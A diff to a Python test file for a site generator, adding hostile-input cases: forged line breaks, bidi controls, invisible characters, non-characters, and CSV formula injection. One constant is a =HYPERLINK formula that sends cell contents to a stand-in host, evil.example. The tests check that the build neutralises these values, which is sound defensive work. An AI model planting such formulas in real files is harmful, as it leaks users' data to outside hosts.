@@ -9,6 +9,8 @@ credentials-style file, both carrying `SECRET`, which must never appear in any o
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 from collections.abc import Callable
@@ -115,11 +117,28 @@ def gpqa_chart_drawn(site: Path) -> None:
     assert svg_pages and all(p.stat().st_size > 0 for p in svg_pages)
 
 
+def csv_cells_are_text(site: Path) -> None:
+    """The formula names reach the CSVs as text: a leading `'`, never a live formula."""
+    cells = {
+        cell
+        for path in site.rglob("*.csv")
+        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline=""))
+        for cell in row
+    }
+    assert "'" + FORMULA_NAME in cells and "'@SUM(1+1)" in cells and "'-1+2" in cells
+    assert not any(cell[:1] in "=+-@\t\r" and cell != "-" for cell in cells if cell)
+
+
 # --- the cases -----------------------------------------------------------------------
 
 A2 = "models/alpha-2.toml"
 GPQA = "benchmarks/gpqa-diamond.toml"
 CHART = "charts/benchmark-gpqa-diamond.toml"
+A1 = "models/alpha-1.toml"
+CODING = "domains/coding.toml"
+METHODOLOGY = "methodology.toml"
+FORMULA_NAME = '=HYPERLINK("https://evil.example/?"&A1,"x")'
+ONE_LINE = "in a one-line field"
 
 
 HOSTILE: tuple[HostileCase, ...] = (
@@ -215,6 +234,100 @@ HOSTILE: tuple[HostileCase, ...] = (
         "id-with-a-trailing-newline",
         replace(A2, 'id = "alpha-2"', 'id = "alpha-2\\n"'),
         (_m(A2, "id", SLUG_PROBLEM + ' (value: "alpha-2\\n")'),),
+    ),
+    # one-line fields: line breaks, bidi controls, invisible characters (issue 23)
+    HostileCase(
+        "line-breaks-forging-lines-in-a-name",
+        replace(A2, 'name = "Alpha 2"', 'name = "GPT-5\\n\\n## forged\\r..."'),
+        (
+            _m(
+                A2,
+                "name",
+                f'line break or tab U+000A {ONE_LINE} (value: "GPT-5\\n\\n## forged\\r...")',
+            ),
+        ),
+    ),
+    HostileCase(
+        "bidi-override-in-provider-and-isolate-in-country",
+        both(
+            replace(A2, 'provider = "Alpha Labs"', 'provider = "sbaL \\u202eAlpha"'),
+            replace(A2, 'country = "United States of America"', 'country = "\\u2067US"'),
+        ),
+        (
+            _m(A2, "provider", f'bidi control U+202E {ONE_LINE} (value: "sbaL \\u202eAlpha")'),
+            _m(A2, "country", f'bidi control U+2067 {ONE_LINE} (value: "\\u2067US")'),
+        ),
+    ),
+    HostileCase(
+        "zero-width-and-line-separators-in-titles-and-labels",
+        both(
+            replace(CHART, 'title = "GPQA', 'title = "GP\\u200bQA'),
+            replace(GPQA, 'name = "GPQA Diamond"', 'name = "GPQA\\u2028Diamond"'),
+            replace(CODING, 'name = "Coding"', 'name = "\\ufeffCoding"'),
+            replace(CODING, 'harness = "Agent X"', 'harness = "Agent\\u2029X"'),
+            replace(A1, 'name = "Alpha 1"', 'name = "Alpha\\t1"'),
+            replace(A2, 'name = "Alpha 2"', 'name = "\\u3164"'),
+            replace(METHODOLOGY, 'cost_unit = "USD', 'cost_unit = "\\u2060USD'),
+        ),
+        (
+            _m(
+                CHART,
+                "title",
+                f"invisible format character U+200B {ONE_LINE}"
+                ' (value: "GP\\u200bQA Diamond scores")',
+            ),
+            _m(GPQA, "name", f'line break or tab U+2028 {ONE_LINE} (value: "GPQA\\u2028Diamond")'),
+            _m(
+                CODING,
+                "name",
+                f'invisible format character U+FEFF {ONE_LINE} (value: "\\ufeffCoding")',
+            ),
+            _m(
+                CODING,
+                "results[2].harness",
+                f'line break or tab U+2029 {ONE_LINE} (value: "Agent\\u2029X")',
+            ),
+            _m(A1, "name", f'line break or tab U+0009 {ONE_LINE} (value: "Alpha\\t1")'),
+            _m(A2, "name", f'blank filler character U+3164 {ONE_LINE} (value: "\u3164")'),
+            _m(
+                METHODOLOGY,
+                "cost_unit",
+                f"invisible format character U+2060 {ONE_LINE}"
+                ' (value: "\\u2060USD per 1M input/output tokens")',
+            ),
+        ),
+    ),
+    # characters XML cannot hold: a field error, never a renderer's refusal (issue 23)
+    HostileCase(
+        "non-characters-in-a-name-a-description-a-private-note-and-a-key",
+        both(
+            replace(A2, 'name = "Alpha 2"', 'name = "Alpha\\ufffe2"'),
+            replace(CHART, 'description = "Raw', 'description = "\\uffffRaw'),
+            replace(GPQA, 'review_status = "approved"', 'review_status = "\\ufdd0"'),
+            replace(
+                METHODOLOGY, 'summary = "Test methodology', 'summary = "\\U0001fffeTest methodology'
+            ),
+            replace(
+                A1, 'country = "United States of America"', 'country = "US"\n"k\\U0010ffff" = 1'
+            ),
+        ),
+        (
+            _m(A2, "name", "non-character U+FFFE in text"),
+            _m(CHART, "description", "non-character U+FFFF in text"),
+            _m(GPQA, "private.review_status", "non-character U+FDD0 in text"),
+            _m(METHODOLOGY, "summary", "non-character U+1FFFE in text"),
+            _m(A1, "k\\U0010ffff", "non-character U+10FFFF in a key"),
+        ),
+    ),
+    HostileCase(
+        "formula-names-build-as-text-in-every-csv",
+        both(
+            replace(A1, 'name = "Alpha 1"', f"name = '{FORMULA_NAME}'"),
+            replace(A1, 'provider = "Alpha Labs"', 'provider = "@SUM(1+1)"'),
+            replace(A2, 'name = "Alpha 2"', 'name = "-1+2"'),
+        ),
+        None,
+        csv_cells_are_text,
     ),
     HostileCase(
         "updated-with-a-utc-offset",
